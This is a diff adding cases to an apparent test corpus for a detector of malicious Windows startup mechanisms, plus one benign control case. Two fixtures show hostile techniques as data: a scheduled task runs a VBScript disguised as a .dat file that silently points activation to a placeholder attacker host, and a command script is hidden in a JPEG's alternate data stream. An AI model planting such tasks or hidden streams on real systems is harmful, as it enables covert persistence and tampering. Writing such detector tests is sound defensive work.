@@ -75,6 +75,21 @@ export const startCases: CorpusCases = {
       plant: setup(`@echo off\r\n${activate(EVIL)}`),
     },
     {
+      name: 'a task hands a text of no telling name to a script host',
+      rows: ['G12', 'E01'],
+      plant: {
+        files: {
+          ...taskOf('\\Vendor\\Sync', 'wscript.exe //b //e:vbscript C:\\Vendor\\cache.dat').files,
+          '/Vendor/cache.dat': `CreateObject("WScript.Shell").Run "cscript slmgr.vbs /skms ${EVIL}", 0\r\n`,
+        },
+      },
+    },
+    {
+      name: 'a script in a named stream of a picture',
+      rows: ['E11'],
+      plant: { files: { '/Users/Public/a.jpg': { content: 'x', streams: { 'a.cmd': activate(EVIL) } } } },
+    },
+    {
       name: 'three calls down',
       rows: ['E20', 'G17'],
       plant: setup('@echo off\r\ncall %~dp0setup1.cmd\r\n', {
@@ -216,6 +231,17 @@ export const startCases: CorpusCases = {
     },
   ],
   honest: [
+    {
+      name: 'a task hands settings with a host to a script of a vendor',
+      rows: ['T14'],
+      plant: {
+        files: {
+          ...taskOf('\\Vendor\\Report', 'cscript.exe //nologo C:\\Vendor\\report.vbs C:\\Vendor\\hosts.ini').files,
+          '/Vendor/report.vbs': 'WScript.Echo WScript.Arguments(0)\r\n',
+          '/Vendor/hosts.ini': 'activation=kms.other.example\r\nproxy=10.0.0.1\r\n',
+        },
+      },
+    },
     {
       name: 'an administrator fetches an installer by hand',
       rows: ['T'],
